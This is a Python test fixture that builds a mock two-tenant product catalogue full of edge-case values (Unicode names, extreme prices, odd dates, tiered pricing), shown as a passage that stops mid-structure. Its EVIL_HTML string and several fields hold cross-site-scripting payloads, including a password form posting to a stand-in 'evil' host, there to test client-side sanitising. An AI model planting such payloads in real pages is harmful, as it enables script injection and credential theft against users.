"""Product catalog of the alternative service (alt_service.py): two tenants' products with the
awkward values a client must survive. Python 3 standard library only."""

import copy
from decimal import Decimal


def D(text):
    return Decimal(text)


EVIL_HTML = (
    '<h2 onclick="alert(\'h2\')">Free tier</h2>'
    '<p>Includes <b>everything</b> you need &amp; more.</p>'
    '<script>alert(1)</script>'
    '<iframe src="https://evil.example.test/frame" width="600" height="400"></iframe>'
    '<p><a href="javascript:alert(2)" onclick="alert(3)">Click me</a></p>'
    '<img src="https://tracker.example.test/pixel.gif?u=1" onerror="alert(4)" alt="pixel">'
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%" '
    'onmouseover="alert(5)">overlay</div>'
    '<form action="https://evil.example.test/steal"><input name="pw" type="password"></form>'
    '<style>body{display:none}</style>'
)


def uom(name, qdim, tdim, scale, mode, **extra):
    u = {"name": name, "quantityDimension": qdim, "termDimension": tdim,
         "decimalScale": scale, "roundingMode": mode}
    u.update(extra)
    return u


P_STARTER = "01tNs00000Q7aZ1AAE"
P_ARABIC = "01tNs00000Rb3Xk9AM"
P_CJK = "01tNs00000Ux5Lm2QA"
P_FREE = "01tNs00000Fr0G4hIA"
P_MICRO = "01tNs00000Mu6Cr1QA"
P_HUGE = "01tNs00000Bg9Yp3AE"
P_BUNDLE = "01tNs00000Bn7Dl8AA"
P_MINIMAL = "01tNs00000Mn1Ma1AQ"
P_USAGE = "01tNs00000Us4Ge7AM"
P_LONG = "01tNs00000Lg2Ds5AE"
P_HTMLNAME = "01tNs00000Ht8Ml6IA"
P_FAMILY = "01tNs00000Fm3Ly0AQ"
# stored but never listed; GET by id answers 404
P_DRAFT = "01tNs00000Dr4Ft9AA"
P_INACTIVE = "01tNs00000In5Ac2AM"
P_COMPONENT = "01tNs00000Cp0Nt1AA"

S_STARTER = "01tSw00000Aa1Bb2AE"
S_NOPRICE = "01tSw00000Cc3Dd4AM"
S_ODDCAT = "01tSw00000Ee5Ff6AQ"

LONG_DESCRIPTION_255 = ("Exactly two hundred and fifty-five characters of description. " * 5)[:254] + "!"
LONG_IMAGE_URL_255 = "https://cdn.example.test/" + ("very-long-path-segment/" * 12)
LONG_IMAGE_URL_255 = (LONG_IMAGE_URL_255 + "x" * 255)[:251] + ".png"
LONG_NAME = ("Extremely Long Product Name That Keeps Going And Going Without A Break "
             * 5)[:300].strip()


def north_products():
    starter = {
        "id": P_STARTER,
        "name": "Ünïcode Starter 🚀✨",
        "sku": "STARTER-🚀-001",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-11-05T08:15:30.123Z",
        "lastPublishedById": "005Ns00000Us3r1AAA",
        "description": "Entry plan — per user, billed monthly. «Ελληνικά», Ñandú, 😀.",
        "longDescription": '<p>Plain <em>rich</em> text with an emoji 🚀 and a '
                           '<a href="https://docs.example.test/starter">link</a>.</p>'
                           '<ul><li>one</li><li>two</li></ul>',
        "imageUrl": "https://cdn.example.test/img/starter.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM1aAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 12,
        "defaultRenewalTerm": 12,
        "evergreen": False,
        "freeTrialType": "Days",
        "freeTrialUnit": 14,
        "taxCode": "SW054000",
        "taxMode": "TaxExclusive",
        "taxCategory": "S",
        "productCategory": "RecurringServices",
        "startDate": "2024-01-01T00:00:00Z",
        "endDate": None,
        "priceBookEntries": [
            {
                "id": "01uNs00000Pb1UsAAE",
                "listPrice": D("25.00"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": True,
                "uom": uom("Per User / Month", "User", "Month", 2, "Nearest", x_iso="C62"),
                "pricingAttributes": [{"name": "Region", "value": "EMEA", "x_source": "crm"}],
                "priceTags": [{
                    "priceTagType": "Quantity",
                    "priceType": "Volume",
                    "uomDimension": "User",
                    "x_tagId": "pt-vol-1",
                    "priceTiers": [
                        {"chargeModel": "PerUnit", "discountPercentage": 0,
                         "startUnit": 1, "endUnit": 10},
                        {"chargeModel": "PerUnit", "discountPercentage": D("12.5"),
                         "startUnit": 11, "endUnit": 100, "x_note": "volume break"},
                        {"chargeModel": "PerUnit", "discountPercentage": D("33.333"),
                         "startUnit": 101, "endUnit": None},
                    ],
                }],
                "x_rank": 1,
            },
            {
                "id": "01uNs00000Pb2EuAAE",
                "listPrice": D("23.5"),
                "currencyIsoCode": "EUR",
                "active": True,
                "recommended": False,
                "uom": uom("Per User / Month", "User", "Month", 2, "Nearest"),
                "pricingAttributes": [],
            },
        ],
        "productFeatures": [],
        "customFields": {
            "Region__c": "EMEA",
            "Legacy_Flag__c": True,
            "Score__c": D("4.5"),
            "Notes__c": None,
            "Nested__c": {"a": [1, 2], "b": {"c": "deep"}},
        },
        "x_vendor": {"name": "AltSoft", "build": {"sha": "deadbeef", "ts": 1700000000}},
        "legacyCode": 17,
    }

    arabic = {
        "id": P_ARABIC,
        "name": "باقة الأعمال المتقدمة",
        "sku": "AR-BIZ-٤٢",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-10-01T12:00:00+03:00",
        "description": None,
        "longDescription": '<p dir="rtl">خدمة استشارية شاملة مع دعم <b>SKU-42</b> '
                           'على مدار الساعة.</p>',
        "imageUrl": None,
        "priceModel": "OneTime",
        "billingTiming": "In Arrears",
        "defaultUomId": "a0UNs00000UoM2bAAA",
        "taxMode": "TaxInclusive",
        "productCategory": "ProfessionalServices",
        "startDate": "2024-02-29",
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uNs00000Pb3AeAAE",
            "listPrice": D("1250.75"),
            "currencyIsoCode": "AED",
            "active": True,
            "recommended": True,
            "uom": uom("مشروع", "Each", None, 2, "Nearest"),
            "pricingAttributes": [{"name": "المنطقة", "value": "الخليج"}],
        }],
        "customFields": {"Arabic_Label__c": "مرحبا"},
        "x_vendor": {"rtl": True},
        "legacyCode": 18,
    }

    cjk = {
        "id": P_CJK,
        "name": "高级支持服务 プレミアム 프리미엄",
        "sku": "SUP-高级-JP",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-09-09T09:09:09.999999Z",
        "lastPublishedById": "005Ns00000Us3r2AAA",
        "description": "年間サポート契約（円建て、端数切り捨て）",
        "longDescription": "<p>日本語の説明文。<br>改行あり。</p>",
        "imageUrl": "https://cdn.example.test/img/%E9%AB%98%E7%BA%A7.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM3cAAA",
        "autoRenew": False,
        "defaultSubscriptionTerm": 1,
        "defaultRenewalTerm": 1,
        "taxCode": "JP-CT-10",
        "taxMode": "TaxInclusive",
        "productCategory": "CustomerSupport",
        "startDate": "2024-04-01T00:00:00+09:00",
        "endDate": "2030-03-31T23:59:59+09:00",
        "priceBookEntries": [{
            "id": "01uNs00000Pb4JpAAE",
            "listPrice": D("1499.5"),
            "currencyIsoCode": "JPY",
            "active": True,
            "recommended": True,
            "uom": uom("年", "Each", "Year", 0, "Down"),
            "pricingAttributes": [{"name": "Tier", "value": "ゴールド"}],
        }],
        "customFields": {"Kana_Name__c": "コウキュウ"},
        "legacyCode": 19,
    }

    free = {
        "id": P_FREE,
        "name": "Free Tier (HTML test)",
        "sku": "FREE-0",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Costs nothing. The long description contains hostile HTML.",
        "longDescription": EVIL_HTML,
        "imageUrl": "https://tracker.example.test/img/free.png?track=1",
        "priceModel": "OneTime",
        "defaultUomId": "a0UNs00000UoM4dAAA",
        "productCategory": "PhysicalGoods",
        "startDate": "2016-12-31T23:59:60Z",   # a real leap second
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uNs00000Pb5FrAAE",
            "listPrice": 0,
            "currencyIsoCode": "USD",
            "active": True,
            "recommended": False,
            "uom": uom("Each", "Each", None, 2, "Nearest"),
        }],
        "customFields": {"Html__c": "<script>alert('cf')</script>"},
        "x_vendor": {"html": "<img src=x onerror=alert(6)>"},
    }

    micro = {
        "id": P_MICRO,
        "name": "API Call (micro-priced)",
        "sku": "API-CALL-µ",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-07-07T07:07:07Z",
        "description": "One millionth of a dollar per call.",
        "longDescription": "",
        "imageUrl": None,
        "priceModel": "Usage",
        "billingTiming": "In Arrears",
        "defaultUomId": "a0UNs00000UoM5eAAA",
        "productCategory": "Usage",
        "startDate": "2024-07-01T00:00:00Z",
        "priceBookEntries": [
            {
                "id": "01uNs00000Pb6MuAAE",
                "listPrice": D("0.000001"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": True,
                "uom": uom("Call", "Each", None, 6, "Up"),
            },
            {
                "id": "01uNs00000Pb7MuAAE",
                "listPrice": D("1E-7"),
                "currencyIsoCode": "EUR",
                "active": True,
                "recommended": False,
                "uom": uom("Call", "Each", None, 10, "Up"),
                "pricingAttributes": [{"name": "Notation", "value": "exponent"}],
            },
        ],
        "customFields": {},
        "legacyCode": 21,
    }

    huge = {
        "id": P_HUGE,
        "name": "Enterprise Everything 💰",
        "sku": "ENT-MAX",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "A price that does not fit into a double.",
        "imageUrl": "https://cdn.example.test/img/max.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM6fAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 36,
        "defaultRenewalTerm": 12,
        "evergreen": False,
        "taxMode": "TaxExclusive",
        "productCategory": "RecurringServices",
        "startDate": "2024-01-01T00:00:00.000+00:00",
        "endDate": "9999-12-31T23:59:59Z",
        "priceBookEntries": [{
            "id": "01uNs00000Pb8BgAAE",
            "listPrice": D("99999999999999999999.99"),
            "currencyIsoCode": "USD",
            "active": True,
            "recommended": True,
            "uom": uom("Per Year", "Each", "Year", 2, "Nearest"),
            "priceTags": [{
                "priceTagType": "Term",
                "priceType": "Ramp",
                "uomDimension": "Year",
                "priceTiers": [
                    {"chargeModel": "PerUnit", "discountPercentage": 0,
                     "startUnit": 1, "endUnit": 1},
                    {"chargeModel": "FlatFee", "discountPercentage": D("2.5"),
                     "startUnit": 2, "endUnit": 3},
                ],
            }],
        }],
        "customFields": {"Approval_Required__c": True},
        "x_vendor": {"tier": "max"},
    }

    nested_starter = {"id": P_STARTER, "name": starter["name"], "sku": starter["sku"],
                      "priceModel": "Recurring", "x_depth": 1,
                      "priceBookEntries": copy.deepcopy(starter["priceBookEntries"][:1])}
    nested_micro = {"id": P_MICRO, "name": micro["name"], "sku": micro["sku"],
                    "recordType": "Service", "productOptions": [], "legacyCode": 21}
    nested_component = {"id": P_COMPONENT, "name": "Onboarding Kit (component only)",
                        "sku": "COMP-ONB", "soldIndependently": False,
                        "description": None, "customFields": {"Kit__c": "box"}}
    bundle = {
        "id": P_BUNDLE,
        "name": "Growth Bundle 📦",
        "sku": "BUNDLE-GROWTH",
        "recordType": "Bundle",
        "configurable": True,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2024-12-01T00:00:00Z",
        "description": "Seats, API calls and an onboarding kit.",
        "longDescription": "<p>Bundle with <strong>options</strong>.</p>",
        "imageUrl": "https://cdn.example.test/img/bundle.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoM7gAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 12,
        "bundleTemplate": "Advanced",
        "showIncludedProductOptions": True,
        "productCategory": "Bundles",
        "startDate": "2024-06-01T00:00:00Z",
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uNs00000Pb9BnAAE",
            "listPrice": D("199.990"),
            "currencyIsoCode": "USD",
            "active": True,
            "recommended": True,
            "uom": uom("Per Month", "Each", "Month", 2, "Nearest"),
        }],
        # featureOrder deliberately out of array order
        "productFeatures": [
            {
                "featureName": "Core",
                "featureOrder": 20,
                "feature": {"id": "a0FNs00000Fe1AAA", "name": "Core", "description": None,
                            "x_icon": "core.svg"},
                "productOptions": [{
                    "id": "a0ONs00000Op1AAA",
                    "optionName": "Starter seats",
                    "optionType": "RelatedProduct",
                    "defaultQuantity": 5,
                    "minQuantity": 0,
                    "maxQuantity": None,
                    "quantityEditable": True,
                    "required": True,
                    "bundled": True,
                    "recommended": False,
                    "product": copy.deepcopy(nested_starter),
                }],
                "x_collapsed": False,
            },
            {
                "featureName": "Add-ons ➕",
                "featureOrder": 10,
                "feature": {"id": "a0FNs00000Fe2AAA", "name": "Add-ons",
                            "description": "<i>Optional</i> extras"},
                "productOptions": [],
            },
            {
                "featureName": "Empty group",
                "featureOrder": 30,
                "feature": {"id": "a0FNs00000Fe3AAA", "name": "Empty"},
            },
        ],
        "productOptions": [
            {
                "id": "a0ONs00000Op1AAA",
                "optionName": "Starter seats",
                "optionType": "RelatedProduct",
                "defaultQuantity": 5,
                "minQuantity": 0,
                "maxQuantity": None,
                "quantityEditable": True,
                "required": True,
                "bundled": True,
                "recommended": False,
                "product": copy.deepcopy(nested_starter),
            },
            {
                "id": "a0ONs00000Op2AAA",
                "optionName": "API calls",
                "optionType": "LinkToBundleQuantity",
                "defaultQuantity": 1000000,
                "minQuantity": 1,
                "maxQuantity": 1000000000,
                "quantityEditable": False,
                "required": False,
                "bundled": False,
                # "recommended" left out
                "product": copy.deepcopy(nested_micro),
                "x_sort": 2,
            },
            {
                "id": "a0ONs00000Op3AAA",
                "optionName": "Onboarding kit",
                "optionType": "RelatedProduct",
                "defaultQuantity": 1,
                "minQuantity": 1,
                "maxQuantity": 1,
                "quantityEditable": False,
                "required": True,
                "bundled": True,
                "recommended": True,
                "product": copy.deepcopy(nested_component),
            },
        ],
        "customFields": {"Bundle_Code__c": "GRW"},
        "x_vendor": {"bundleEngine": {"version": 3, "flags": ["a", "b"]}},
        "legacyCode": 23,
    }

    minimal = {
        "id": P_MINIMAL,
        "name": "Minimal",
        "sku": "MIN-1",
        "defaultUomId": "a0UNs00000UoM8hAAA",
    }

    usage = {
        "id": P_USAGE,
        "name": "Storage (consumption)",
        "sku": "STOR-GB",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Tiered per-GB storage; one inactive price must stay hidden.",
        "longDescription": "<table><tr><td>GB</td><td>Price</td></tr></table>",
        "imageUrl": "https://cdn.example.test/img/storage.png",
        "priceModel": "CRBD",
        "billingTiming": "In Arrears",
        "defaultUomId": "a0UNs00000UoM9iAAA",
        "freeTrialType": "Months",
        "freeTrialUnit": 1,
        "taxCode": "DC010500",
        "taxMode": "TaxExclusive",
        "taxCategory": "Z",
        "productCategory": "Cloud",
        "startDate": "2024-03-01T00:00:00-05:00",
        "endDate": None,
        "priceBookEntries": [
            {
                "id": "01uNs00000PbAUsAAE",
                "listPrice": D("0.023"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": True,
                "uom": uom("GB / Month", "GB", "Month", 3, "Up"),
                "pricingAttributes": [{"name": "Region", "value": "us-east"},
                                      {"name": "Class", "value": "Standard"}],
                "priceTags": [
                    {
                        "priceTagType": "Quantity",
                        "priceType": "Tiered",
                        "uomDimension": "GB",
                        "priceTiers": [
                            {"chargeModel": "PerUnit", "discountPercentage": 0,
                             "startUnit": 0, "endUnit": D("1024.5")},
                            {"chargeModel": "PerUnit", "discountPercentage": 10,
                             "startUnit": D("1024.5"), "endUnit": 1e6},
                        ],
                    },
                    {"priceTagType": "Promotion", "priceType": "Volume",
                     "uomDimension": "GB", "priceTiers": []},
                ],
            },
            {
                "id": "01uNs00000PbBUsAAE",
                "listPrice": D("0.5"),
                "currencyIsoCode": "USD",
                "active": False,
                "recommended": True,
                "uom": uom("GB / Month", "GB", "Month", 3, "Up"),
                "pricingAttributes": [{"name": "Region", "value": "retired"}],
            },
        ],
        "productFeatures": [],
        "customFields": {"Sla__c": "99.9"},
    }

    long_product = {
        "id": P_LONG,
        "name": LONG_NAME,
        "sku": "LONG-" + "X" * 60,
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": False,
        "status": "Active",
        "publishStatus": "Published",
        "description": LONG_DESCRIPTION_255,
        "longDescription": "<p>" + ("Lorem ipsum dolor sit amet. " * 400) + "</p>",
        "imageUrl": LONG_IMAGE_URL_255,
        "priceModel": "OneTime",
        "defaultUomId": "a0UNs00000UoMAjAAA",
        "productCategory": "PhysicalGoods",
        "priceBookEntries": [
            {"id": "01uNs00000PbC%02dAA" % i, "listPrice": D("%d.%02d" % (i, i)),
             "currencyIsoCode": c, "active": True, "recommended": i == 3,
             "uom": uom("Each", "Each", None, 2, "Nearest")}
            for i, c in enumerate(["USD", "EUR", "GBP", "CHF", "SEK", "NOK", "DKK", "PLN"], 1)
        ],
        "customFields": {("Field_%02d__c" % i): ("value %d" % i) for i in range(1, 31)},
    }

    html_name = {
        "id": P_HTMLNAME,
        "name": "<b>Not bold</b> & \"quoted\" 'name' <script>x()</script>",
        "sku": "SKU ÆØÅ/001 #x?y=1&z=<2>",
        "recordType": "Service",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Tab\there, newline\nthere, NUL-free, zero-width\u200bspace, "
                       "line separator\u2028end.",
        # longDescription left out entirely
        "imageUrl": "data:image/png;base64,iVBORw0KGgo=",
        "priceModel": "OneTime",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoMBkAAA",
        "productCategory": "Weird & <Wonderful>",
        "startDate": "2024-05-05T05:05:05Z",
        "priceBookEntries": [{
            "id": "01uNs00000PbDHtAAE",
            "listPrice": D("-0.00"),
            "currencyIsoCode": "XTS",
            "active": True,
            "recommended": False,
            "uom": uom("Each", "Each", None, 2, "Nearest"),
        }],
        "productFeatures": [{
            "featureName": "<u>Underlined?</u>",
            "featureOrder": 1,
            "feature": {"id": "a0FNs00000Fe4AAA", "name": "<u>F</u>",
                        "description": "<script>alert('feature')</script>"},
        }],
        "customFields": {},
    }

    family = {
        "id": P_FAMILY,
        "name": "Team 👩‍👩‍👧‍👦 Plan 🇸🇪 — e\u0301dition",
        "sku": "FAM-BHD",
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "lastPublishedDate": "2025-01-15T16:45:00.5+05:30",
        "lastPublishedById": "005Ns00000Us3r1AAA",
        "description": "Evergreen family plan priced in Bahraini dinar (3 decimals).",
        "longDescription": "<p>Evergreen.</p>",
        "imageUrl": "https://cdn.example.test/img/family.png",
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0UNs00000UoMClAAA",
        "autoRenew": True,
        "defaultSubscriptionTerm": 1,
        "defaultRenewalTerm": 1,
        "evergreen": True,
        "freeTrialType": "Years",
        "freeTrialUnit": 1,
        "taxMode": "TaxExclusive",
        "referenceProductId": P_DRAFT,
        "productCategory": "RecurringServices",
        "startDate": "2025-01-01T00:00:00+05:30",
        "endDate": None,
        "priceBookEntries": [
            {
                "id": "01uNs00000PbEFmAAE",
                "listPrice": D("12.345"),
                "currencyIsoCode": "BHD",
                "active": True,
                "recommended": True,
                "uom": uom("Per Family / Month", "Each", "Month", 3, "Nearest"),
            },
            {
                "id": "01uNs00000PbFFmAAE",
                "listPrice": D("129.99"),
                "currencyIsoCode": "USD",
                "active": True,
                "recommended": False,
                "uom": uom("Per Family / Year", "Each", "Year", 2, "Nearest"),
                "pricingAttributes": [{"name": "Billing", "value": "Annual"}],
            },
        ],
        "customFields": {"Family_Size__c": 4},
        "x_vendor": {},
        "legacyCode": 28,
    }

    listed = [starter, arabic, cjk, free, micro, huge, bundle, minimal, usage,
              long_product, html_name, family]

    draft = {"id": P_DRAFT, "name": "Legacy Plan (draft)", "sku": "OLD-1",
             "status": "Draft", "publishStatus": "Draft", "defaultUomId": "a0UNs00000UoMDmAAA"}
    inactive = {"id": P_INACTIVE, "name": "Retired Plan", "sku": "OLD-2",
                "status": "Inactive", "publishStatus": "Published",
                "defaultUomId": "a0UNs00000UoMEnAAA"}
    component = dict(nested_component, status="Active", publishStatus="Unpublished",
                     defaultUomId="a0UNs00000UoMFoAAA")
    return listed, [draft, inactive, component]


def south_products():
    starter = {
        "id": S_STARTER,
        "name": "Starter (South)",
        "sku": "STARTER-🚀-001",          # same SKU as a north product: SKUs are per tenant
        "recordType": "Product",
        "configurable": False,
        "soldIndependently": True,
        "status": "Active",
        "publishStatus": "Published",
        "description": "Same SKU as in the north tenant, different product.",
        "imageUrl": None,
        "priceModel": "Recurring",
        "billingTiming": "In Advance",
        "defaultUomId": "a0USw00000UoM1aAAA",
        "productCategory": "RecurringServices",
        "startDate": "2024-01-01T00:00:00+10:00",
        "endDate": None,
        "priceBookEntries": [{
            "id": "01uSw00000Pb1AuAAE",
            "listPrice": D("39.95"),
            "currencyIsoCode": "AUD",
            "active": True,
            "recommended": True,
            "uom": uom("Per User / Month", "User", "Month", 2, "Nearest"),
        }],
        "customFields": {"Region__c": "APAC"},
    }
    noprice = {
        "id": S_NOPRICE,
        "name": "Consulting day (price on request)",
        "sku": "CONS-DAY",
        "recordType": "Service",
        "status": "Active",
        "publishStatus": "Published",
        "description": None,
        "priceModel": "OneTime",
        "defaultUomId": "a0USw00000UoM2bAAA",
        "priceBookEntries": [],
        "productFeatures": [],
        "customFields": {},
    }
    oddcat = {
        "id": S_ODDCAT,
        "name": "Kiwi Gadget 🥝",
        "sku": "KIWI-1",
        "recordType": "Product",
        "status": "Active",
        "publishStatus": "Published",
        "priceModel": "OneTime",
        "defaultUomId": "a0USw00000UoM3cAAA",
        "productCategory": "Mystery/Category ✨",
        "priceBookEntries": [{
            "id": "01uSw00000Pb2NzAAE",
            "listPrice": D("1234567.891"),
            "currencyIsoCode": "NZD",
            "active": True,
            "uom": uom("Each", "Each", None, 2, "Up", x_iso="EA"),
        }],
        "x_vendor": {"origin": "NZ"},
    }
    priced, readable = south_priced_products()
    return [starter, noprice, oddcat] + priced, [], readable


# Priced products of the south tenant, each the twin of a priced product of the sandbox (same list
# prices, tiers and percentages), in another legal shape: tags on the price book entries only,
# tier amounts as strings, tiers listed last first with tierNumber, chargeModel spelled "Flat" /
# "PER_UNIT", no recordType (tiers with amounts set the price, percentages discount it), a first
# tier without startUnit, an open last tier without endUnit, list prices with exponents and
# trailing zeros, dimensions in the plural. A client prices both to the same cent.
PRICED = {
    "volume": "01tSw00000PrVo1AAE",     # sandbox 01tAc00000PrcVol01
    "stairstep": "01tSw00000PrSt2AAE",  # sandbox 01tAc00000PrcStair
    "ramp": "01tSw00000PrRa3AAE",       # sandbox 01tAc00000PrcRamp1
    "discounts": "01tSw00000PrDi4AAE",  # sandbox 01tAc00000PrcVDsc1
    "usage": "01tSw00000PrUs5AAE",      # sandbox 01tAc00000PrcUsgEv
    "rampflat": "01tSw00000PrRf6AAE",   # sandbox 01tAc00000PrcRmpFl
    "bundle": "01tSw00000PrBn7AAE",     # sandbox 01tAc00000PrcBndl1
}
# Sold only inside bundles: not in the list, read by id (the bundle's seats option).
BUNDLE_SEATS = "01tSw00000PrDi8AAE"


def _tiers(*rows):
    """Tiers last first, numbered; rows are (start or None, end or None, field, value, model)."""
    out = []
    for n, (start, end, field, value, model) in enumerate(rows, start=1):
        t = {"tierNumber": n, "chargeModel": model}
        if start is not None:
            t["startUnit"] = start
        if end is not None:
            t["endUnit"] = end
        t[field] = value
        out.append(t)
    return list(reversed(out))


def _priced(pid, name, sku, model, entries, term=None):
    p = {"id": pid, "name": name, "sku": sku, "recordType": "Product", "status": "Active",
         "publishStatus": "Published", "priceModel": model, "defaultUomId": "a0USw00000UoM9zAAA",
         "productCategory": "Priced", "priceBookEntries": entries, "customFields": {}}
    if term is not None:
        p["defaultSubscriptionTerm"] = term
    return p


def _entry(eid, price, currency, u, tags):
    return {"id": eid, "listPrice": price, "currencyIsoCode": currency, "active": True, "uom": u,
            "priceTags": tags}


def south_priced_products():
    licence = uom("Licence", "Licence", None, 0, "Nearest")
    per_month = uom("User/Month", "User", "Month", 0, "Up")
    volume = _priced(PRICED["volume"], "Licence (volume, alt)", "ALT-PRC-VOL", "OneTime", [
        _entry("01uSw00000PrVo1AAE", D("1.200E+1"), "USD", licence, [{
            "priceTagType": "Quantity", "priceType": "Volume", "uomDimension": "Licence",
            "priceTiers": _tiers((None, 99, "amount", "10.00", "PER_UNIT"), (100, 499, "amount", "8", "PER_UNIT"),
                                 (500, None, "amount", "6.000", "PER_UNIT"))}])])
    stairstep = _priced(PRICED["stairstep"], "Tablet rental (stairstep, alt)", "ALT-PRC-STAIR", "OneTime", [
        _entry("01uSw00000PrSt2AAE", D("50"), "USD", uom("Tablet", "Tablet", None, 0, "Nearest"), [{
            "priceTagType": "Quantity", "priceType": "Volume", "uomDimension": "Tablet",
            "priceTiers": _tiers((1, 10, "amount", "500", "Flat"), (11, 50, "amount", "2000.00", "Flat"),
                                 (51, None, "amount", "35", "PER_UNIT"))}])])
    ramp = _priced(PRICED["ramp"], "Seats (ramp, alt)", "ALT-PRC-RAMP", "Recurring", [
        _entry("01uSw00000PrRa3AAE", D("1E+2"), "USD", per_month, [{
            "priceTagType": "Term", "priceType": "Ramp", "uomDimension": "Months",
            "priceTiers": _tiers((1, 12, "amount", "100", "PER_UNIT"), (13, 24, "amount", "90", "PER_UNIT"),
                                 (25, 36, "amount", "80", "PER_UNIT"))}])], term=36)
    team_size = {"priceTagType": "Quantity", "priceType": "Volume", "uomDimension": "User",
                 "priceTiers": _tiers((1, 9, "discountPercentage", D("0"), "PER_UNIT"),
                                      (10, 49, "discountPercentage", D("10.0"), "PER_UNIT"),
                                      (50, None, "discountPercentage", D("20.000"), "PER_UNIT"))}
    commitment = {"priceTagType": "Term", "priceType": "Tiered", "uomDimension": "Months",
                  "priceTiers": _tiers((1, 12, "discountPercentage", D("0"), "PER_UNIT"),
                                       (13, 24, "discountPercentage", D("5"), "PER_UNIT"),
                                       (25, None, "discountPercentage", D("10"), "PER_UNIT"))}
    expired = {"priceTagType": "Quantity", "priceType": "Volume", "uomDimension": "User",
               "startTime": "2024-01-01", "endTime": "2024-03-31",
               "priceTiers": _tiers((1, None, "discountPercentage", D("15"), "PER_UNIT"))}
    japan = {"priceTagType": "Quantity", "priceType": "Volume", "uomDimension": "User",
             "priceTiers": _tiers((None, None, "discountPercentage", D("4.50"), "PER_UNIT"))}
    nearest = uom("User/Month", "User", "Month", 0, "Nearest")
    discounts = _priced(PRICED["discounts"], "Workspace (discounts, alt)", "ALT-PRC-DISC", "Recurring", [
        _entry("01uSw00000PrDi4AAE", D("25.0"), "USD", nearest, [team_size, commitment, expired]),
        _entry("01uSw00000PrDi5AAE", D("1999"), "JPY", nearest, [japan, team_size, commitment, expired])], term=12)
    seconds = uom("GB-second", "GB-seconds", "Month", 6, "Nearest")
    free = {"priceTagType": "Quantity", "priceType": "Tiered", "uomDimension": "GB-seconds",
            "priceTiers": _tiers((1, 400000, "discountPercentage", D("100"), "PER_UNIT"),
                                 (400001, None, "discountPercentage", D("0"), "PER_UNIT"))}
    usage = _priced(PRICED["usage"], "Compute (usage, alt)", "ALT-PRC-USAGE", "Usage", [
        _entry("01uSw00000PrUs5AAE", D("1.66667E-5"), "USD", seconds, [free]),
        _entry("01uSw00000PrUs6AAE", D("0.0000051"), "KWD", seconds, [free])])
    month_flat = uom("Subscription/Month", "Subscription", "Month", 0, "Nearest")
    rampflat = _priced(PRICED["rampflat"], "Platform fee (flat ramp, alt)", "ALT-PRC-RFLAT", "Recurring", [
        _entry("01uSw00000PrRf6AAE", D("600"), "USD", month_flat, [{
            "priceTagType": "Term", "priceType": "Ramp", "uomDimension": "Month",
            "priceTiers": _tiers((1, 12, "amount", "500", "Flat"), (13, None, "amount", "400", "Flat"))}]),
        _entry("01uSw00000PrRf7AAE", D("226.000"), "BHD", month_flat, [{
            "priceTagType": "Term", "priceType": "Ramp", "uomDimension": "Month",
            "priceTiers": _tiers((1, 12, "amount", "188.125", "Flat"), (13, None, "amount", "150.7505", "Flat"))}])],
        term=24)
    seats = dict(copy.deepcopy(discounts), id=BUNDLE_SEATS, name="Workspace seats (bundles only, alt)",
                 sku="ALT-PRC-SEATS", soldIndependently=False)
    for n, e in enumerate(seats["priceBookEntries"]):
        e["id"] = "01uSw00000PrSe%dAAE" % n
    # The bundle's options only at the top level (no features); its seats option's product is not
    # in the list, and its included pack is not served at all.
    bundle = _priced(PRICED["bundle"], "Store bundle (alt)", "ALT-PRC-BUNDLE", "Recurring", [
        _entry("01uSw00000PrBn7AAE", D("99.00"), "USD", uom("Store/Month", "Store", "Month", 0, "Up"), [])],
        term=12)
    bundle.update({"recordType": "Bundle", "configurable": True, "productOptions": [
        {"id": "a0OSw00000PrOp1AAA", "optionName": "Workstation Licence", "optionType": "RelatedProduct",
         "defaultQuantity": 5, "minQuantity": 1, "maxQuantity": 50, "quantityEditable": True,
         "bundled": False, "product": {"id": PRICED["volume"], "name": "Licence (volume, alt)", "sku": "ALT-PRC-VOL"}},
        {"id": "a0OSw00000PrOp2AAA", "optionName": "Team Workspace seats",
         "optionType": "LinkToBundleQuantity", "defaultQuantity": 2, "minQuantity": 1, "maxQuantity": 10,
         "quantityEditable": True, "bundled": False, "product": {"id": BUNDLE_SEATS, "name": "Workspace seats (bundles only, alt)",
                                          "sku": "ALT-PRC-SEATS"}},
